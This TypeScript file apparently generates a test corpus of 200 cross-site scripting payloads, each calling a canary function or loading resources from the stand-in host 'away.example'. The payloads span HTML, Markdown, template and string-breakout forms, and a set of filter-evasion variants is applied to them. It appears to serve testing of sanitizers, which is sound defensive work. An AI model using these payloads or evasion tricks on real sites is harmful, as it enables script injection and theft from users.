/** What a text calls when a page lets it run. */
export const alarm = 'tellScript';
/** Where a text sends what it learns. */
const away = 'https://away.example';

type Make = (n: number) => string;

const run = (n: number): string => `${alarm}(${n})`;

/** Texts that run where a page takes them for markup. */
const markup: readonly Make[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `"><script src="${away}/${n}.js"></script>`,
  (n) => `<img src=x onerror=${run(n)}>`,
  (n) => `'"><img src="${away}/${n}.png" onload="${run(n)}">`,
  (n) => `<svg onload=${run(n)}>`,
  (n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s>`,
  (n) => `<svg><script href="${away}/${n}.js"/></svg>`,
  (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  (n) => `<object data="${away}/${n}"></object>`,
  (n) => `<embed src="javascript:${run(n)}">`,
  (n) => `<body onload=${run(n)}>`,
  (n) => `<input autofocus onfocus=${run(n)}>`,
  (n) => `<details open ontoggle=${run(n)}>x</details>`,
  (n) => `<video><source onerror=${run(n)}></video>`,
  (n) => `<audio src="${away}/${n}" onerror=${run(n)}></audio>`,
  (n) => `<style>@import '${away}/${n}.css';</style>`,
  (n) => `<link rel=stylesheet href="${away}/${n}.css">`,
  (n) => `<link rel=prefetch href="${away}/${n}">`,
  (n) => `<div style="background:url(${away}/${n})">x</div>`,
  (n) => `<meta http-equiv=refresh content="0;url=${away}/${n}">`,
  (n) => `<base href="${away}/${n}/">`,
  (n) => `<form action="${away}/${n}"><button autofocus>x</button></form>`,
  (n) => `<a href="javascript:${run(n)}" id=x>x</a>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${run(n)}>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`,
  (n) => `<template><img src=x onerror=${run(n)}></template>`,
  (n) => `</textarea></title><img src=x onerror=${run(n)}>`,
  (n) => `--><img src=x onerror=${run(n)}><!--`,
  (n) => `<marquee onstart=${run(n)}>x</marquee>`,
  (n) => `<x onanimationstart=${run(n)} style="animation:x 1s">`,
  (n) => `&lt;img src=x onerror=${run(n)}&gt;`,
  (n) => `\\u003cimg src=x onerror=${run(n)}\\u003e`,
  (n) => `<img srcset="${away}/${n}.png 1x">`,
  (n) => `<picture><source srcset="${away}/${n}.png"><img></picture>`,
  (n) => `<use href="data:image/svg+xml,<svg onload=${run(n)}>">`,
];

/** Texts that run where a page takes them for Markdown, an address, a template or a style. */
const others: readonly Make[] = [
  (n) => `[read](javascript:${run(n)})`,
  (n) => `[read](JaVaScRiPt:${run(n)} "x")`,
  (n) => `[read](data:text/html,<script>${run(n)}</script>)`,
  (n) => `![x](${away}/${n}.png)`,
  (n) => `![x](x "onerror=${run(n)}")`,
  (n) => `![x" onerror="${run(n)}](x)`,
  (n) => `<javascript:${run(n)}>`,
  (n) => `[x]: javascript:${run(n)} [x]`,
  (n) => `javascript:${run(n)}`,
  (n) => `${away}/${n}"onmouseover="${run(n)}`,
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => '${' + run(n) + '}',
  (n) => `');${run(n)};//`,
  (n) => `";${run(n)};//`,
  (n) => `url(${away}/${n})`,
  (n) => `\`\`\`html <img src=x onerror=${run(n)}>`,
  (n) => `| <img src=x onerror=${run(n)}> | x |`,
  (n) => `~~<svg/onload=${run(n)}>~~`,
];

const kinds = [...markup, ...others];

/** How a kind is varied: as it is, in capitals, with odd spaces, behind words, and within Markdown. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  (text) => `**Done.** ${text}`,
  (text) => text.replace(/ on/g, '/on').replace(/=x/g, "='x'"),
];

/** Two hundred texts of one line, each of which calls `alarm` with its number, or another origin, where it is run. */
export const hostileTexts: readonly string[] = Array.from({ length: 200 }, (_, n) => {
  const kind = kinds[n % kinds.length] as Make;
  const disguise = disguises[Math.floor(n / kinds.length) % disguises.length] as (text: string) => string;
  return disguise(kind(n));
});
